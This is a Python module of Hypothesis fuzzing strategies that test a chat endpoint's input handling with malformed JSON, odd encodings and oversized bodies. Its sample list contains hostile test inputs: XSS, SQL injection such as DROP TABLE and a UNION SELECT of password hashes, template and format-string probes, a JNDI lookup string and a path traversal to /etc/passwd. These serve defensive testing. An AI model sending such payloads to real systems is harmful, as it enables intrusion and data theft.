"""Hypothesis strategies for what people and scripts send: empty and blank text, control characters,
invalid UTF-8, wrong JSON types, nesting, markup and script, SQL, emoji, other scripts, huge numbers and
bodies."""

from __future__ import annotations

import json
from typing import Any

from hypothesis import strategies as st

SAMPLES = [
    "",
    " ",
    "\t\n\r ",
    "\u3000\u3000",  # ideographic spaces only
    "\x00",
    "研发\x00补助",
    "\x1b[31m红色\x1b[0m",
    "\u200b\u200b\ufeff",  # zero-width and BOM only
    "\u202e助补发研",  # right-to-left override
    "<script>alert('研发补助')</script>",
    '<img src=x onerror="alert(1)">创新券',
    "<b>特派员</b> 奖励",
    "'; DROP TABLE question_log; --",
    "1' OR '1'='1",
    "研发补助' UNION SELECT password_hash FROM staff_account --",
    "%s%s%s%n",
    "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://example.invalid/a}",
    "../../../../etc/passwd",
    "😀🎉👍🏽👨‍👩‍👧‍👦🇨🇳",
    "研发补助😀最多多少🤔",
    "مرحبا، ما هو الدعم المالي للبحث والتطوير؟",
    "Здравствуйте, какая субсидия на НИОКР?",
    "नमस्ते, अनुसंधान सब्सिडी कितनी है?",
    "こんにちは、研究開発補助金はいくらですか",
    "연구개발 보조금은 얼마입니까",
    "Ｒ＆Ｄ补助 最多 多少？",  # full-width Latin
    "𠀀𠀁𪚥",  # CJK outside the BMP
    "研" * 500,
    "研" * 501,
    "a" * 5000,
    "13800138000",
    "1" * 400,
    "-1e308",
    "NaN",
    "null",
    "true",
    "[]",
    "{}",
    '/ask_amount{"measure":"rd_subsidy"}',  # a button payload typed by hand
    "/restart",
    '/nonexistent_intent{"x": [1, 2',
]

# Characters from everywhere except lone surrogates (JSON can carry them, see raw bodies below).
any_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=300)
weird_text = st.one_of(
    st.sampled_from(SAMPLES),
    any_text,
    st.lists(st.sampled_from(SAMPLES), min_size=2, max_size=4).map("".join),
)

json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from([10**308, -(2**63), 2**64, 1e308, 5e-324]),
    weird_text,
)
json_values = st.recursive(
    json_scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=4), st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=12,
)


def dumps(value: Any, ascii_only: bool = False) -> bytes:
    return json.dumps(value, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass")


RAW_SAMPLES = [
    b"",
    b" ",
    b"\r\n\r\n",
    b"\x00" * 16,
    b"\xff\xfe\xfd",
    b'{"sender": "a", "message": "\xff\xfe"}',  # invalid UTF-8 inside a string
    b'{"sender": "a", "message": "\xe7\xa0"}',  # a truncated 3-byte sequence
    b'{"sender": "a", "message": "\\ud800"}',  # a lone surrogate, valid JSON
    b'{"sender": "\\udfff", "message": "hi"}',
    b'{"sender": "a", "message": NaN}',
    b'{"sender": "a", "message": Infinity}',
    b'{"sender": "a", "message": 1e999999}',
    b'{"sender": "a", "message": ' + b"9" * 5000 + b"}",  # past Python's int-from-text limit
    b'{"sender": "a", "message": "' + "研".encode() * 30_000 + b'"}',  # 90 kB: over the body limit
    b"x" * 100_000,
    b"[" * 20_000,
    b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    b'{"sender": "a", "message": "hi"',
    b'{"sender": "a", "message": "hi"}{"sender": "b"}',
    b'{"sender": "a", "sender": "b", "message": "hi"}',
    b"sender=a&message=hi",
    b"<xml><sender>a</sender></xml>",
    "研发补助".encode("gbk"),
    '{"sender": "a", "message": "研发补助"}'.encode("utf-16"),
]

CONTENT_TYPES = [
    "application/json",
    "application/json; charset=utf-8",
    "application/json; charset=latin-1",
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "",
]


def chat_payloads() -> st.SearchStrategy[Any]:
    """Dicts shaped like a chat request with anything in the fields, or any JSON value at all."""
    sender = st.one_of(st.sampled_from(["visitor-1", "访客", "a" * 128, "a" * 129]), weird_text, json_values)
    message = st.one_of(weird_text, json_values)
    channel = st.one_of(st.sampled_from(["web", "staff", "api", "WEB", "wechat"]), json_values)
    shaped = st.fixed_dictionaries(
        {"sender": sender, "message": message},
        optional={"channel": channel, "metadata": json_values, "extra": json_values},
    )
    # A valid sender, so that the message itself is what gets checked.
    message_only = st.fixed_dictionaries(
        {"sender": st.sampled_from(["visitor-1", "visitor-2", "访客"]), "message": message},
        optional={"channel": st.sampled_from(["web", "staff", "api"])},
    )
    return st.one_of(message_only, shaped, json_values)


def bodies(payloads: st.SearchStrategy[Any]) -> st.SearchStrategy[bytes]:
    return st.one_of(
        st.builds(dumps, payloads, st.booleans()),
        st.sampled_from(RAW_SAMPLES),
        st.binary(max_size=400),
    )
